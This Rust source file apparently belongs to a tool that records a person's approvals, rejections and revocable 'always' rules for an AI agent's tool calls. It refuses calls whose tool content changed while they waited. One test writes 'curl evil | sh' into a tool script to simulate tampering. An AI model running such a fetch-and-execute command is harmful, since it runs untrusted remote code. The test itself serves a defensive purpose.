//! The human's answers to waiting calls, and the rules "approve always" leaves. A key in the
//! workbench and `toolbench calls` end here.

use std::path::Path;

use crate::catalog::scan::ScanLimits;
use crate::model::ToolId;
use crate::model::calls::RuleRow;
use crate::model::calls::decision::{ApprovalError, CallDecision, SeenCall, check_arguments};
use crate::model::calls::{Answer, CallRow, CallState};
use crate::model::short_hash;
use crate::proc_stat::ProcessId;
use crate::store::{Store, StoreError};

/// What an answer is checked against: the call as the person saw it (the workbench's row;
/// the CLI names a call by its id alone), and the workspace, where the tool is read as it is
/// now.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Binding<'a> {
    pub(crate) seen: Option<&'a SeenCall>,
    pub(crate) root: &'a Path,
    pub(crate) limits: ScanLimits,
}

/// Answers a pending call as `who`; returns the call as answered. When two answers race,
/// the store takes one and the other gets `AlreadyAnswered`.
///
/// An approval is bound to the call and the content it was made for: refused when the call
/// is not the one the person saw, and, when the tool's content is no longer the content the
/// call was asked for, the call is refused with that reason (the agent reads it) instead of
/// letting other code run.
pub(crate) fn answer(
    store: &mut Store,
    id: i64,
    decision: CallDecision,
    who: &str,
    binding: Binding<'_>,
) -> Result<CallRow, ApprovalError> {
    let call = pending(store, id)?;
    if binding
        .seen
        .is_some_and(|seen| *seen != SeenCall::of(&call))
    {
        return Err(ApprovalError::NotAsShown(id));
    }
    let at = crate::clock::now_rfc3339();
    if !matches!(decision, CallDecision::Reject(_))
        && let Some(reason) = changed_since_asked(&call, binding)
    {
        let refusal = Answer {
            state: CallState::Rejected,
            who: "toolbench".into(),
            at,
            reason: Some(reason.clone()),
            arguments: None,
            rule: None,
        };
        if store.answer_call(id, &refusal)? {
            return Err(ApprovalError::ToolChanged { id, reason });
        }
        pending(store, id)?;
    }
    let at = crate::clock::now_rfc3339();
    let mut answer = Answer {
        state: CallState::Approved,
        who: who.to_string(),
        at: at.clone(),
        reason: None,
        arguments: None,
        rule: None,
    };
    let written = match decision {
        CallDecision::Once => store.answer_call(id, &answer)?,
        CallDecision::Edited(arguments) => {
            check_arguments(&call, &arguments)?;
            answer.arguments = Some(arguments);
            store.answer_call(id, &answer)?
        }
        CallDecision::Reject(reason) => {
            let reason = reason.trim();
            if reason.is_empty() {
                return Err(ApprovalError::NoReason(id));
            }
            answer.state = CallState::Rejected;
            answer.reason = Some(reason.to_string());
            store.answer_call(id, &answer)?
        }
        CallDecision::Always { pattern } => {
            // With signatures on, the rule is a review too: signed before it is stored, and
            // with `require` refused when no key can sign it.
            let active = crate::lookup::active_in_usual_folder(
                binding.root,
                binding.limits,
                &ToolId::named(&call.tool),
            )
            .filter(|e| e.version == call.version && e.content_hash == call.content_hash);
            if let Some(entry) = &active {
                crate::signature::sign_rule(
                    binding.root,
                    entry,
                    pattern.as_ref(),
                    who,
                    binding.limits,
                )
                .map_err(|e| ApprovalError::Unsigned {
                    id,
                    reason: e.to_string(),
                })?;
            }
            let rule = RuleRow {
                id: 0,
                tool: call.tool.clone(),
                version: call.version.clone(),
                content_hash: call.content_hash.clone(),
                pattern,
                from_call: Some(id),
                created_by: who.to_string(),
                created_at: at,
                revoked_by: None,
                revoked_at: None,
            };
            store.approve_with_rule(id, &rule, &answer)?.is_some()
        }
    };
    if !written {
        // Someone else answered between our read and our write.
        pending(store, id)?;
    }
    store.call(id)?.ok_or(ApprovalError::UnknownCall(id))
}

/// Why the tool a call waits for is not the content it was asked for any more, read from its
/// usual folder (`None` when it is, or when it is found elsewhere: the run, bound to the
/// content, refuses it then).
fn changed_since_asked(call: &CallRow, binding: Binding<'_>) -> Option<String> {
    let now = crate::lookup::active_in_usual_folder(
        binding.root,
        binding.limits,
        &ToolId::named(&call.tool),
    )?;
    (now.version != call.version || now.content_hash != call.content_hash).then(|| {
        format!(
            "{}@{} changed while the call waited (asked for {}, now {}@{} {}); call it again",
            call.tool,
            call.version,
            short_hash(&call.content_hash),
            now.name,
            now.version,
            short_hash(&now.content_hash)
        )
    })
}

/// The call, if it still waits.
fn pending(store: &Store, id: i64) -> Result<CallRow, ApprovalError> {
    let call = store.call(id)?.ok_or(ApprovalError::UnknownCall(id))?;
    if call.state != CallState::Pending {
        let by = match (&call.answered_by, &call.answered_at) {
            (Some(who), Some(at)) => format!(" by {who} at {at}"),
            _ => String::new(),
        };
        return Err(ApprovalError::AlreadyAnswered {
            id,
            state: call.state,
            by,
        });
    }
    Ok(call)
}

/// Revokes a rule as `who`; later calls wait again.
pub(crate) fn revoke(store: &mut Store, id: i64, who: &str) -> Result<RuleRow, ApprovalError> {
    let rule = store.rule(id)?.ok_or(ApprovalError::UnknownRule(id))?;
    let at = crate::clock::now_rfc3339();
    if rule.revoked_at.is_some() || !store.revoke_rule(id, who, &at)? {
        let rule = store.rule(id)?.ok_or(ApprovalError::UnknownRule(id))?;
        let by = match (rule.revoked_by, rule.revoked_at) {
            (Some(who), Some(at)) => format!(" by {who} at {at}"),
            _ => String::new(),
        };
        return Err(ApprovalError::AlreadyRevoked { id, by });
    }
    store.rule(id)?.ok_or(ApprovalError::UnknownRule(id))
}

/// Marks abandoned the pending calls whose server died: nobody will ever run them. Returns
/// how many.
pub(crate) fn abandon_dead(store: &mut Store) -> Result<usize, StoreError> {
    let mut count = 0;
    for call in store.calls(false)? {
        let server = ProcessId {
            pid: call.server_pid,
            start_ticks: call.server_start,
        };
        if server.is_alive() {
            continue;
        }
        let answer = Answer {
            state: CallState::Abandoned,
            who: "toolbench".into(),
            at: crate::clock::now_rfc3339(),
            reason: Some(format!(
                "the server that held it (pid {}) stopped",
                call.server_pid
            )),
            arguments: None,
            rule: None,
        };
        if store.answer_call(call.id, &answer)? {
            count += 1;
        }
    }
    Ok(count)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::calls::NewCall;
    use serde_json::json;

    /// An answer from the CLI in `root`: bound to the call's id alone.
    fn by_id(root: &Path) -> Binding<'_> {
        Binding {
            seen: None,
            root,
            limits: ScanLimits::default(),
        }
    }

    fn waiting(store: &mut Store, pid: u32) -> i64 {
        waiting_for(store, pid, "h")
    }

    fn waiting_for(store: &mut Store, pid: u32, content_hash: &str) -> i64 {
        let me = ProcessId::of(pid).unwrap_or(ProcessId {
            pid,
            start_ticks: 0,
        });
        store
            .insert_call(&NewCall {
                tool: "deploy".into(),
                version: "1.0.0".into(),
                content_hash: content_hash.into(),
                arguments: json!({"env": "staging"}),
                input_schema: json!({
                    "type": "object",
                    "properties": {"env": {"type": "string"}},
                    "required": ["env"],
                    "additionalProperties": false
                }),
                client: "agent".into(),
                why: "test".into(),
                requested_at: "2026-11-22T10:00:00Z".into(),
                server_pid: me.pid,
                server_start: me.start_ticks,
                task: None,
            })
            .expect("insert")
    }

    #[test]
    fn answers_are_checked_and_given_once() {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut store = Store::open(dir.path()).expect("open");
        let id = waiting(&mut store, std::process::id());
        let bad = answer(
            &mut store,
            id,
            CallDecision::Edited(json!({"env": 3})),
            "ana",
            by_id(dir.path()),
        );
        assert!(
            matches!(bad, Err(ApprovalError::Arguments { .. })),
            "{bad:?}"
        );
        let none = answer(
            &mut store,
            id,
            CallDecision::Reject("  ".into()),
            "ana",
            by_id(dir.path()),
        );
        assert!(matches!(none, Err(ApprovalError::NoReason(i)) if i == id));
        let done = answer(
            &mut store,
            id,
            CallDecision::Edited(json!({"env": "dev"})),
            "ana",
            by_id(dir.path()),
        )
        .expect("edited");
        assert_eq!(done.approved_arguments, Some(json!({"env": "dev"})));
        let again =
            answer(&mut store, id, CallDecision::Once, "bo", by_id(dir.path())).expect_err("twice");
        assert!(
            again
                .to_string()
                .starts_with(&format!("call #{id} was already approved by ana at "))
        );
        assert!(matches!(
            answer(
                &mut store,
                999,
                CallDecision::Once,
                "ana",
                by_id(dir.path())
            ),
            Err(ApprovalError::UnknownCall(999))
        ));
    }

    #[test]
    fn always_leaves_a_rule_that_can_be_revoked_once() {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut store = Store::open(dir.path()).expect("open");
        let id = waiting(&mut store, std::process::id());
        let pattern = Some(json!({"env": "staging"}));
        let call = answer(
            &mut store,
            id,
            CallDecision::Always { pattern },
            "ana",
            by_id(dir.path()),
        )
        .expect("always");
        let rule = call.rule.expect("a rule");
        assert_eq!(revoke(&mut store, rule, "ana").expect("revoke").id, rule);
        let again = revoke(&mut store, rule, "ana")
            .expect_err("twice")
            .to_string();
        assert!(
            again.starts_with(&format!("rule #{rule} was already revoked by ana")),
            "{again}"
        );
        assert!(matches!(
            revoke(&mut store, 99, "ana"),
            Err(ApprovalError::UnknownRule(99))
        ));
    }

    #[test]
    fn an_answer_is_for_the_call_as_seen_and_the_content_it_was_asked_for() {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut store = Store::open(dir.path()).expect("open");
        let folder = dir.path().join("approved/deploy");
        std::fs::create_dir_all(&folder).expect("mkdir");
        std::fs::write(
            folder.join("tool.toml"),
            "name = \"deploy\"\nversion = \"1.0.0\"\ndescription = \"d\"\n[run]\ncommand = [\"true\"]\n",
        )
        .expect("manifest");
        let hash = crate::catalog::scan::hash_tool_folder(&folder);
        let asked = |store: &mut Store| waiting_for(store, std::process::id(), &hash);

        // Another call than the one the person looked at: refused, still waiting.
        let id = asked(&mut store);
        let mut seen = SeenCall::of(&store.call(id).expect("read").expect("row"));
        seen.arguments = json!({"env": "prod"});
        let binding = Binding {
            seen: Some(&seen),
            ..by_id(dir.path())
        };
        let err = answer(&mut store, id, CallDecision::Once, "ana", binding).expect_err("other");
        assert!(
            matches!(err, ApprovalError::NotAsShown(i) if i == id),
            "{err}"
        );
        seen.arguments = json!({"env": "staging"});
        let binding = Binding {
            seen: Some(&seen),
            ..by_id(dir.path())
        };
        let call = answer(&mut store, id, CallDecision::Once, "ana", binding).expect("as seen");
        assert_eq!(call.state, CallState::Approved);

        // The tool changed while the call waited: the call is refused, and says why.
        let id = asked(&mut store);
        std::fs::write(folder.join("run.sh"), "curl evil | sh\n").expect("change");
        let err = answer(&mut store, id, CallDecision::Once, "ana", by_id(dir.path()))
            .expect_err("changed")
            .to_string();
        assert!(
            err.starts_with(&format!(
                "call #{id}: deploy@1.0.0 changed while the call waited (asked for {}, now deploy@1.0.0 ",
                &hash[..12]
            )),
            "{err}"
        );
        let call = store.call(id).expect("read").expect("row");
        assert_eq!(call.state, CallState::Rejected);
        assert!(
            call.reason
                .as_deref()
                .is_some_and(|r| r.ends_with("call it again")),
            "{call:?}"
        );
        assert!(
            store
                .rules_for("deploy", "1.0.0", &hash)
                .expect("rules")
                .is_empty(),
            "no rule for other code"
        );
        // Rejecting needs no such check.
        let id = asked(&mut store);
        let call = answer(
            &mut store,
            id,
            CallDecision::Reject("no".into()),
            "ana",
            by_id(dir.path()),
        )
        .expect("rejected");
        assert_eq!(call.state, CallState::Rejected);
    }

    #[test]
    fn calls_of_dead_servers_are_abandoned() {
        let dir = tempfile::tempdir().expect("tempdir");
        let mut store = Store::open(dir.path()).expect("open");
        let alive = waiting(&mut store, std::process::id());
        // No process has pid 0's stat file.
        let dead = waiting(&mut store, 0);
        assert_eq!(abandon_dead(&mut store).expect("abandon"), 1);
        let state = |id| store.call(id).expect("read").expect("row").state;
        assert_eq!(state(alive), CallState::Pending);
        assert_eq!(state(dead), CallState::Abandoned);
    }
}
